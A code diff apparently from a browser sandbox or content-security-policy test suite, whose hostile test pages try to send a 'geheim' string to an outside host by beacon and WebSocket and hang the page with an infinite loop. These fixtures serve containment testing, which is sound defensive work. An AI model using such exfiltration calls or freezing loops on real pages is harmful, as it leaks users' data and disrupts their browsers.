@@ -84,11 +84,11 @@ const attempts = {{
     asked.send();
   }})),
   "send a beacon": async () => {{
-    let blocked = false;
-    document.addEventListener("securitypolicyviolation", () => {{ blocked = true; }});
+    const blocked = new Promise((yes) =>
+      document.addEventListener("securitypolicyviolation", ({{ blockedURI }}) =>
+        blockedURI === `${{outside}}/beacon` && yes()));
     const sent = navigator.sendBeacon(`${{outside}}/beacon`, "geheim");
-    await new Promise((yes) => setTimeout(yes, 200));
-    return sent && !blocked;
+    return sent && within(2500, blocked).then(() => false, () => true);
   }},
   "open a WebSocket": () => within(1000, new Promise((yes, no) => {{
     const socket = new WebSocket(outside.replace("http", "ws") + "/socket");
@@ -155,7 +155,10 @@ const attempts = {{
 """
 
 LOOP = """<!doctype html><html lang="de"><title>Endlos</title><h1>Endlos</h1>
-<script>setTimeout(() => { for (;;); }, 300);</script></html>
+<script>setTimeout(() => {
+  parent.postMessage({ hostile: "loops soon" }, "*");
+  setTimeout(() => { for (;;); }, 50);
+}, 250);</script></html>
 """
 
 WANDERER = """<!doctype html><html lang="de"><title>Fort</title><h1>Fort</h1>
